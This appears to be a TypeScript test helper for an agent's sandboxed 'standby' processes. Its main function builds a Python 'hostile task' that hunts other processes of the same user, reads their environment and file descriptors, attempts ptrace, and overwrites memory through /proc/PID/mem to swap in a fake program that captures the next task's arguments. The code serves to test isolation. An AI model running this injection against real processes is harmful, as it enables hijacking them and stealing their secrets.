/** Helpers for tests of the agent's standby (a task's process started ahead): where it waits for its task. */
import { INBOX_PREFIX } from "../src/exec/mod.ts";

/** Whether this process has a terminal: an agent's tasks then start through setsid, which a standby cannot do. */
export function hasTerminal(): boolean {
  try {
    Deno.openSync("/dev/tty", { read: true }).close();
    return true;
  } catch {
    return false;
  }
}

/** The file a standby (process `pid`, of this agent or another) waits for its task in: one of its arguments; "" if none. */
export function standbyInbox(pid: number): string {
  const args = Deno.readTextFileSync(`/proc/${pid}/cmdline`).split("\0");
  return args.find((arg) => arg.split("/").at(-1)?.startsWith(INBOX_PREFIX)) ?? "";
}

/**
 * A hostile task (python3, run as the task user) that looks for every other process of its own user
 * outside its own cgroup (an agent's standby waiting for the next task, when there is one), within
 * `seconds`, and tries to reach each as that user can reach its own processes: its environment, its
 * open files, ptrace, and its memory, where it replaces every copy of the `env` path the standby
 * execs the next task with (`$1`, in the standby's heap and arguments) by a program of its own of
 * the same length (in /tmp, named on a line `fake:PATH`), which prints INJECTED and keeps the next
 * task's arguments and environment in `loot`. It prints one line per process: `PID what:result ...`
 * (result "reached", or the errno's name), then `done`.
 */
export function standbyAttack(loot: string, seconds = 10): string {
  return `
import ctypes, errno, os, random, string, time
loot = ${JSON.stringify(loot)}
me = os.getpid()
mine = open("/proc/self/cgroup").read()
uid = os.getuid()

def uids(pid):
    for line in open("/proc/%d/status" % pid):
        if line.startswith("Uid:"):
            return [int(x) for x in line.split()[1:4]]
    return []

def targets():
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        try:
            if uids(pid)[0] != uid or open("/proc/%d/cgroup" % pid).read() == mine:
                continue
            args = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\\0")
        except OSError:
            continue
        if any(arg.endswith(b"/env") for arg in args):
            found.append((pid, args))
    return found

def attempt(name, fn, results):
    try:
        fn()
        results.append(name + ":reached")
    except OSError as e:
        results.append(name + ":" + errno.errorcode.get(e.errno, str(e.errno)))

def inject(pid, env_path):
    wanted, replaced = env_path.encode() + b"\\0", 0
    with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
        # The attacker's own program, at a path as long as env's, in a directory it may write.
        fake = "/tmp/" + "".join(random.choice(string.ascii_letters) for _ in range(len(env_path) - 5))
        print("fake:" + fake)
        with open(fake, "w") as f:
            f.write("#!/bin/sh\\necho INJECTED\\nprintf '%s\\\\n' \\"$@\\" > " + loot + "\\n")
        os.chmod(fake, 0o755)
        for line in open("/proc/%d/maps" % pid):
            fields = line.split()
            if "rw" not in fields[1]:
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            mem.seek(start)
            data = mem.read(end - start)
            at = data.find(wanted)
            while at >= 0:
                mem.seek(start + at)
                mem.write(fake.encode() + b"\\0")
                replaced += 1
                at = data.find(wanted, at + 1)
    if replaced == 0:
        raise OSError(errno.ENOENT, "no env path in memory")

def attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    libc.ptrace(17, pid, 0, 0)

deadline = time.time() + ${seconds}
found = targets()
while not found and time.time() < deadline:
    time.sleep(0.02)
    found = targets()
# Once it has switched to this user and waits (its cgroup.procs written, setpriv done).
time.sleep(0.2)
for pid, args in targets():
    env_path = next(arg.decode() for arg in args if arg.endswith(b"/env"))
    results = []
    attempt("environ", lambda: open("/proc/%d/environ" % pid, "rb").read(), results)
    attempt("fds", lambda: os.listdir("/proc/%d/fd" % pid), results)
    for fd in (0, 3):
        attempt("fd%d" % fd, lambda: os.close(os.open("/proc/%d/fd/%d" % (pid, fd), os.O_RDWR)), results)
    attempt("ptrace", lambda: attach(pid), results)
    attempt("mem", lambda: inject(pid, env_path), results)
    print(pid, " ".join(results))
print("done")
`;
}
